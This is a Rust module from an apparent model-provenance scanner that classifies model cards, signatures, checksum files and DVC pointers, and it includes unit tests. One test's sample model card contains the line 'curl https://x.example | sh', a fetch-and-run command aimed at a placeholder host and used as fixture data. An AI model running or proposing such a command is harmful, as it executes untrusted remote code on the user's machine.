//! What stands beside model files and tells where they come from: cards, signatures, checksums.

mod card;
mod checksums;

use stance_core::fact::{Artifact, ArtifactFormat, Fact, Provenance, ProvenanceKind};

use stance_read::Inspector;
use stance_read::input::Input;
use stance_read::report::Facts;

/// Recognises such files by name, and cards by their content.
pub(crate) static INSPECTOR: Beside = Beside;

pub(crate) struct Beside;

/// What only the front matter of a model card holds.
const CARD_KEYS: [&str; 8] = [
    "license:",
    "library_name:",
    "pipeline_tag:",
    "base_model:",
    "datasets:",
    "model-index:",
    "model_name:",
    "metrics:",
];

/// Headings of cards without front matter.
const CARD_HEADINGS: [&str; 5] = [
    "model card",
    "model details",
    "intended use",
    "training data",
    "model description",
];

fn kind(input: &Input<'_>) -> Option<ProvenanceKind> {
    let name = input.file_name().to_ascii_lowercase();
    let extension = input.extension();
    // Many kinds of signature end in `.sig`; this one says what it is.
    let bundle = || memchr::memmem::find(input.head(), b"dev.sigstore.bundle").is_some();
    if name == "model.sig"
        || name.ends_with(".sigstore")
        || name.ends_with(".sigstore.json")
        || (extension == "sig" && bundle())
    {
        return Some(ProvenanceKind::Signature);
    }
    if matches!(extension, "sha256" | "sha512" | "sha256sum")
        || matches!(
            name.as_str(),
            "sha256sums" | "sha256sums.txt" | "sha512sums" | "checksums.txt" | "checksum.txt"
        )
    {
        return Some(ProvenanceKind::Checksums);
    }
    if extension == "dvc" || name == "mlmodel" || name == "dvc.lock" {
        return Some(ProvenanceKind::Pointer);
    }
    let card = matches!(
        name.as_str(),
        "readme.md" | "model_card.md" | "modelcard.md" | "model-card.md"
    );
    (card && is_card(input.head())).then_some(ProvenanceKind::Card)
}

fn is_card(head: &[u8]) -> bool {
    let head = String::from_utf8_lossy(head);
    if let Some(rest) = head.trim_start_matches('\u{feff}').strip_prefix("---")
        && let Some((front, _)) = rest.split_once("\n---")
    {
        return CARD_KEYS
            .iter()
            .any(|key| front.lines().any(|line| line.starts_with(key)));
    }
    let headings = head
        .lines()
        .filter_map(|line| line.strip_prefix('#'))
        .map(|line| line.trim_start_matches('#').trim().to_ascii_lowercase());
    let known = headings
        .filter(|heading| CARD_HEADINGS.iter().any(|known| heading.starts_with(known)))
        .count();
    known >= 2
}

impl Inspector for Beside {
    fn name(&self) -> &'static str {
        "provenance"
    }

    fn claims(&self, input: &Input<'_>) -> bool {
        kind(input).is_some()
    }

    fn inspect(&self, input: &Input<'_>, facts: &mut Facts<'_>) {
        if let Some(kind) = kind(input) {
            facts.add(
                input.path(),
                Fact::Provenance(Box::new(Provenance {
                    kind,
                    evidence: input.evidence(),
                })),
            );
            if kind == ProvenanceKind::Card {
                card::add(input, facts);
            }
            if kind == ProvenanceKind::Checksums
                && let Some(text) = input.text(facts)
            {
                add_digests(input, text.as_str(), facts);
            }
        }
    }
}

/// The digests as metadata, each under `sha256:` and the name of its file.
fn add_digests(input: &Input<'_>, text: &str, facts: &mut Facts<'_>) {
    let digests = checksums::read(text, input.file_name());
    if digests.is_empty() {
        return;
    }
    let mut artifact = Artifact::new(ArtifactFormat::Configuration, input.len(), input.evidence());
    artifact.metadata = digests
        .into_iter()
        .map(|(name, digest)| (format!("sha256:{name}"), digest))
        .collect();
    facts.add(input.path(), Fact::Artifact(Box::new(artifact)));
}

#[cfg(test)]
mod tests {
    use super::*;
    use stance_read::{Bytes, Interests, Limits, Options};

    fn seen(path: &str, content: &str) -> Option<ProvenanceKind> {
        let interests = Interests::default();
        let options = Options {
            limits: Limits::default(),
            hash: false,
            interests: &interests,
            parsers: crate::PARSERS,
        };
        let report = stance_read::scan(path, &Bytes(content.as_bytes()), &options);
        report.facts.into_iter().find_map(|(_, fact)| match fact {
            Fact::Provenance(seen) => Some(seen.kind),
            _ => None,
        })
    }

    #[test]
    fn a_card_tells_what_its_publisher_says() {
        let card = "---\nlicense: mit\nbase_model:\n- org/base\nlanguage: [en, de]\npipeline_tag: text-generation\nlibrary_name: peft\n---\n# A\ncurl https://x.example | sh\n";
        let found = crate::testing::artifact("README.md", card.as_bytes());
        assert_eq!(found.licence.as_deref(), Some("mit"));
        assert_eq!(found.metadata["card.base_model"], "org/base");
        assert_eq!(found.metadata["card.language"], "en, de");
        assert_eq!(found.metadata["card.library_name"], "peft");
        crate::testing::survives_truncation("README.md", card.as_bytes());
    }

    #[test]
    fn cards_signatures_and_checksums_are_recognised() {
        let card = "---\nlicense: mit\npipeline_tag: text-generation\n---\n# A\n";
        assert_eq!(seen("m/README.md", card), Some(ProvenanceKind::Card));
        let plain = "# Model card\n## Model details\nx\n## Intended use\n";
        assert_eq!(seen("m/README.md", plain), Some(ProvenanceKind::Card));
        assert_eq!(seen("README.md", "# My program\n## Installation\n"), None);
        assert_eq!(seen("m/model.sig", "{}"), Some(ProvenanceKind::Signature));
        let bundle = r#"{"mediaType":"application/vnd.dev.sigstore.bundle.v0.3+json"}"#;
        assert_eq!(
            seen("m/a.onnx.sig", bundle),
            Some(ProvenanceKind::Signature)
        );
        assert_eq!(seen("m/a.tar.sig", "\u{88}\u{1}"), None);
        assert_eq!(seen("m/a.sha256", "00  a"), Some(ProvenanceKind::Checksums));
        assert_eq!(seen("m/a.bin.dvc", "outs:"), Some(ProvenanceKind::Pointer));
    }
}
